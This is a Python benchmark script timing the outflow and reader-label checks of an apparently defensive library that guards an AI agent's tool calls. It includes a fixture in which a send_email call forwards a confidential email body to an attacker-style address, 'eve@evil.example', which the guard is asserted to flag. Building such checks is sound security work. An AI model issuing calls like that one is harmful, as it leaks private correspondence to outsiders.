"""Costs of issue 15's checks on the hot path: outflow accounting and readers.

Measures (medians over repeats, microseconds per operation):

* ``decide_plain_us``: ``decide`` of a call with two short values in a session that read no
  confidential data (the ledger is inactive: the baseline);
* ``decide_outflow_us``: the same call after a secret was read and 48 short tagged pieces were
  sent through 3 sinks (both rings full: the most the trace does per piece);
* ``trace_us``: ``FlowTracker.trace_outflow`` alone for that call;
* ``note_us``: folding an executed call's short pieces into the ledger (``note_executed``);
* ``readers_label_us``: labelling a 5-email YAML output with its readers (parse and canonicalise);
* ``readers_label_cached_us``: the same output again (the readers of texts up to 64 KiB are cached);
* ``decide_readers_us``: ``decide`` of a ``send_email`` whose body is traced to that output, and
  ``decide_send_without_recipients_us``: the same call under the policy without ``recipients``.

Run: ``PYTHONPATH=src python benchmarks/outflow_costs.py --json`` (``--quick`` for a smoke run).
"""

from __future__ import annotations

import argparse
import json
import statistics
import time
from collections.abc import Callable
from typing import Any

import yaml

from tether import Guard, Policy, Session, SQLiteStore, ToolCall
from tether.monitor import decide, result_label

POLICY = """
tether: 1
name: outflow-bench
tools:
  read_secret: {effect: read, output: trusted, output_tags: [secret]}
  search: {effect: read, output: trusted, args: {query: {type: string}, page: {type: [string, integer]}}}
  post: {effect: write, output: trusted, args: {text: {type: string}}}
  note: {effect: write, output: trusted, args: {title: {type: string}}}
  get_emails: {effect: read, output: untrusted, output_readers: [sender, recipients, cc, bcc]}
  send_email:
    effect: write
    recipients: [recipients]
    args: {recipients: {type: array, items: {type: string}}, body: {type: string}}
"""
EMAILS = [
    {
        "id_": str(i),
        "sender": f"person{i}@corp.example",
        "recipients": ["emma@corp.example", f"team{i}@corp.example"],
        "cc": [],
        "bcc": [],
        "subject": f"Quarterly numbers, part {i}",
        "body": f"Hi Emma, the figures for region {i} are attached; revenue rose by {i + 3} percent. Regards",
    }
    for i in range(5)
]


def _median_us(fn: Callable[[], Any], n: int, repeats: int) -> float:
    runs = []
    for _ in range(repeats):
        t0 = time.perf_counter()
        for _ in range(n):
            fn()
        runs.append((time.perf_counter() - t0) / n * 1e6)
    return round(statistics.median(runs), 2)


def _session(secret: bool) -> Session:
    session = Guard(Policy.from_yaml(POLICY), SQLiteStore(":memory:")).start_session("help me with my mail")
    if secret:
        d = session.check("read_secret", {})
        session.record_result(d.call_id, "vault token: Zebra-Quokka-4471-Vault-9931-Xylo")
        sinks = [("search", "query"), ("post", "text"), ("note", "title")]
        for i in range(48):
            tool, arg = sinks[i % 3]
            d = session.check(tool, {arg: f"{i % 10}{chr(97 + i % 26)}"})
            if d.verdict == "allow":
                session.record_result(d.call_id, "ok")
    return session


def measure(n: int, repeats: int) -> dict[str, float]:
    out: dict[str, float] = {}
    call = ToolCall("search", {"query": "mq", "page": 7})
    plain = _session(secret=False)
    out["decide_plain_us"] = _median_us(lambda: decide(plain.policy, plain.state, call, "sha256:x", 0.0), n, repeats)
    busy = _session(secret=True)
    assert busy.state.flow.outflow.active
    out["decide_outflow_us"] = _median_us(lambda: decide(busy.policy, busy.state, call, "sha256:x", 0.0), n, repeats)
    out["trace_us"] = _median_us(lambda: busy.state.flow.trace_outflow("search", call.args), n, repeats)
    flow = busy.state.flow
    out["note_us"] = _median_us(lambda: flow.note_executed({"query": "mq", "page": 7}, ("query", "page"), "search"), n, repeats)
    text = yaml.safe_dump(EMAILS)
    mail = Guard(Policy.from_yaml(POLICY), SQLiteStore(":memory:")).start_session("help me with my mail")
    d = mail.check("get_emails", {})
    rec_args: dict[str, Any] = {}
    m = max(n // 10, 1)
    texts = iter([text + f"# {i}\n" for i in range(m * repeats)])  # distinct texts: no cache hit
    out["readers_label_us"] = _median_us(
        lambda: result_label(mail.policy, mail.state, "get_emails", rec_args, next(texts), error=False), m, repeats
    )
    out["readers_label_cached_us"] = _median_us(
        lambda: result_label(mail.policy, mail.state, "get_emails", rec_args, text, error=False), m, repeats
    )
    mail.record_result(d.call_id, text)
    send = ToolCall("send_email", {"recipients": ["eve@evil.example"], "body": EMAILS[2]["body"]})
    assert decide(mail.policy, mail.state, send, "sha256:x", 0.0).verdict == "ask"
    out["decide_readers_us"] = _median_us(lambda: decide(mail.policy, mail.state, send, "sha256:x", 0.0), n, repeats)
    plain_policy = Policy.from_yaml(POLICY.replace("    recipients: [recipients]\n", ""))
    out["decide_send_without_recipients_us"] = _median_us(lambda: decide(plain_policy, mail.state, send, "sha256:x", 0.0), n, repeats)
    out["outflow_over_plain"] = round(out["decide_outflow_us"] / out["decide_plain_us"], 2)
    return out


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--quick", action="store_true", help="a smoke run (fewer iterations)")
    parser.add_argument("--json", action="store_true")
    ns = parser.parse_args()
    result = measure(200 if ns.quick else 5000, 1 if ns.quick else 5)
    if ns.json:
        print(json.dumps(result, indent=2))
    else:
        for key, value in result.items():
            print(f"{key:24} {value}")


if __name__ == "__main__":
    main()
